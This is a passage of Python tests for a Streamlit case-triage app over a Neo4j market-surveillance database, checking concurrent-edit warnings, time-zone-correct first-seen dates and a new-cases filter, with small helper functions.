    assert app_queries.finding(market_db, "PAIR-1")["status"] == "dismissed"
    assert list(app_queries.case_events(market_db, "PAIR-1")["user"]) == ["Li", "Li", USER, "Li"]
    assert any("Someone changed this case while you were editing it: the status is now dismissed" in w.value
               for w in at.warning)
    # the form was redrawn from the case: a change now is the user's informed choice and is saved
    assert at.selectbox(key="triage_status_cases_PAIR-1").value == "dismissed"
    at.selectbox(key="triage_status_cases_PAIR-1").set_value("in_progress")
    _submit(at, "Save triage")
    assert app_queries.finding(market_db, "PAIR-1")["status"] == "in_progress"


def test_cases_page_shows_when_each_case_was_first_found_and_filters_the_new_ones(market_db, shanghai_time):
    """A later run first found RING-2: it alone is new; a failed run after it changes nothing."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("""CREATE (:DetectorRun {id: 'RUN-2', status: 'succeeded', started_at: datetime('2024-08-01T10:00:00Z')}),
                              (:DetectorRun {id: 'RUN-3', status: 'failed', started_at: datetime('2024-09-01T10:00:00Z')})
                       WITH 1 AS one
                       MATCH (r:Ring {id: 'RING-2'})
                       SET r.first_seen_run = 'RUN-2', r.first_seen_at = datetime('2024-08-01T20:00:00Z')""").consume()
    at = app_session("views/cases.py")
    no_exception(at)
    cases = table(at, "finding_id", "about").set_index("finding_id")
    # the day in the server's zone: 20:00 UTC is the next morning in the city
    assert cases.loc["RING-1", "first_seen"] == "2024-07-01" and cases.loc["RING-2", "first_seen"] == "2024-08-02"
    at.toggle(key="cases_new").set_value(True).run()
    no_exception(at)
    assert list(table(at, "finding_id", "about")["finding_id"]) == ["RING-2"]


# -- helpers --------------------------------------------------------------------------------
def _submit(at, label: str) -> None:
    [button] = [b for b in at.button if b.label == label]
    button.click().run()


def _walk_all(at):
    from tests.app.conftest import _walk

    return list(_walk(at.main))


def _fingerprint(db) -> tuple:
    with db.driver.session(database=db.settings.database) as session:
        record = session.run(
            "MATCH (n) WITH count(n) AS nodes "
            "MATCH ()-[r]->() WITH nodes, count(r) AS rels "
            "MATCH (f:Firm {id: 'F1'}), (r:Ring {id: 'RING-1'}) "
            "RETURN nodes, rels, f.name AS name, r.status AS status, "
            "COUNT { MATCH (x:Intruder) RETURN x } AS intruders"
        ).single()
    return tuple(record.values())
